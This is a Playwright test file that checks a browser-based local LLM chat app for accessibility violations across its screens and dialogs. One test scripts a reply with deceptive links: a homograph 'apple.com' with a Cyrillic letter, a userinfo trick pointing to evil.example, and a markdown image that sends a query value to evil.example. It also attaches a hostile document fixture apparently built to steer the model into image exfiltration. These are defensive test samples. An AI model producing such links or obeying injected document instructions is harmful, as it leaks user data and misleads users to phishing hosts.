import { join } from 'node:path';
import { expectClean } from './axe';
import { expect, test } from './fixtures';
import { gradientPng } from './images';
import type { ChatPage } from './pages/ChatPage';
import { ComparePage } from './pages/ComparePage';
import { ImagesPage } from './pages/ImagesPage';
import { ModelsPage } from './pages/ModelsPage';

// Each scene is scanned three times (e2e/axe.ts); a catalog of 150 models takes a while.
test.describe.configure({ timeout: 180_000 });

test('the home screen, a chat with a reply, and chat settings have no axe violations', async ({
  chat,
  page,
}) => {
  await chat.open({ scripted_load_ms: 0, scripted_tps: 2000 });
  await expectClean(page, 'the home screen');
  await chat.sendAndWait('Show me what you can do');
  await expectClean(page, 'a chat with a reply');
  await chat.openSettings();
  await expectClean(page, 'chat settings', 'dialog[open]');
  await chat.closeSettings();
});

test('the model manager, the benchmark and privacy dialogs have no axe violations', async ({
  chat,
  page,
}) => {
  await chat.open({ scripted_load_ms: 0 });
  const models = new ModelsPage(page);
  await models.openRecommended();
  await expectClean(page, 'the model manager’s picks', 'dialog[open]');
  await models.showAll();
  await expectClean(page, 'the model manager’s catalog', 'dialog[open]');
  await page.getByRole('button', { name: 'Add custom model' }).click();
  const add = page.getByRole('dialog', { name: 'Add custom model' });
  await add.getByRole('button', { name: 'Add model' }).click();
  await expect(add.getByRole('textbox', { name: 'Name', exact: true })).toBeFocused();
  await expectClean(page, 'the GGUF form, with what to fix', 'dialog[open]');
  await add.getByRole('radio', { name: /^MLC build/ }).check();
  await expectClean(page, 'the MLC build form', 'dialog[open]');
  await add.getByRole('button', { name: 'Close' }).click();
  await models.close();
  await chat.openBenchmark();
  await expectClean(page, 'the benchmark dialog', 'dialog[open]');
  await chat.benchmarkDialog().getByRole('button', { name: 'Close' }).click();
  await (await chat.menuItem('Privacy')).click();
  await expectClean(page, 'the privacy dialog', 'dialog[open]');
});

test('a comparison, set up and answered, has no axe violations', async ({ chat, page }) => {
  await chat.open({ scripted_load_ms: 0, scripted_tps: 2000, scripted_tokens: 20 });
  await chat.messageBox.fill('Compare this');
  const compare = new ComparePage(page);
  await compare.openFromComposer();
  await expectClean(page, 'the compare setup', 'dialog[open]');
  await compare.start();
  await expect(compare.dialog.getByRole('button', { name: 'Copy as Markdown' })).toBeVisible();
  await expectClean(page, 'the compared replies', 'dialog[open]');
});

test('a document card has no axe violations', async ({ chat, page }) => {
  await chat.open({ scripted_load_ms: 0 });
  await page
    .getByLabel('Attach document')
    .setInputFiles(join('e2e/fixtures/documents', 'notes.md'));
  const panel = page.getByRole('region', { name: 'Documents' });
  await expect(panel.getByRole('region', { name: 'notes.md' })).toBeVisible();
  await expectClean(page, 'a document card');
  await expectOpenMenuClean(chat);
});

test('links in a reply, the dialog that asks before one opens, and a source line that flags a document have no axe violations', async ({
  chat,
  page,
}) => {
  await chat.open({
    scripted_load_ms: 0,
    scripted_tps: 2000,
    scripted_reply:
      'See [the portal](https://\u0430pple.com/login?q=price), [sign in](https://accounts.google.com@evil.example/) and ![status](https://evil.example/p.png?q=price).',
  });
  await chat.attachDocument('e2e/fixtures/documents/hostile/image-exfiltration.md');
  await expect(chat.documentCard('image-exfiltration.md')).toBeVisible();
  await chat.sendAndWait('What is the tender price for the new ferry?');
  await expectClean(page, 'a reply with links, from a document that instructs the model');
  const reply = chat.lastReply();
  for (const name of ['the portal', 'sign in', 'Image: status']) {
    await reply.getByRole('link', { name }).click();
    await expectClean(page, `the dialog asking before “${name}” opens`, 'dialog[open]');
    await chat.linkDialog().getByRole('button', { name: 'Cancel' }).click();
  }
});

test('images in the composer and in a message, and the note for a text-only model, have no axe violations', async ({
  chat,
  page,
}) => {
  const images = new ImagesPage(page);
  const photo = { name: 'photo.png', mimeType: 'image/png', buffer: gradientPng(400, 300) };
  await chat.open({ scripted_load_ms: 0, scripted_tps: 500 });
  await images.attach(photo);
  await images.attach({ name: 'bad.png', mimeType: 'image/png', buffer: Buffer.from('x') });
  await expect(images.visionNote).toBeVisible();
  await expect(images.error).toBeVisible();
  await expectClean(page, 'the composer with an image, a refused one and the vision note');
  await images.visionNote.getByRole('button').click();
  await expect(images.visionNote).toBeHidden();
  await chat.sendAndWait('What is this?');
  await images.expectDrawn(images.inMessage(chat.messages('user').first()).first());
  await expectClean(page, 'a message with an image');
});

/** The header's menu, open. */
async function expectOpenMenuClean(chat: ChatPage) {
  await chat.menuButton().click();
  await expect(chat.page.getByRole('menu', { name: 'More' })).toBeVisible();
  await expectClean(chat.page, 'the open menu');
}

test('a progress bar of unknown length does not slide when the system asks for less motion', async ({
  chat,
  page,
}) => {
  await chat.open();
  // Such a bar shows only until a load's first report, so this asks the shipped stylesheet
  // directly, through a bar made as ui/ProgressBar makes one.
  const animationName = () =>
    page.evaluate(() => {
      const bar = document.createElement('div');
      bar.className = 'progress-fill indeterminate';
      document.body.append(bar);
      const name = getComputedStyle(bar).animationName;
      bar.remove();
      return name;
    });
  expect(await animationName()).not.toBe('none');
  await page.emulateMedia({ reducedMotion: 'reduce' });
  expect(await animationName()).toBe('none');
});
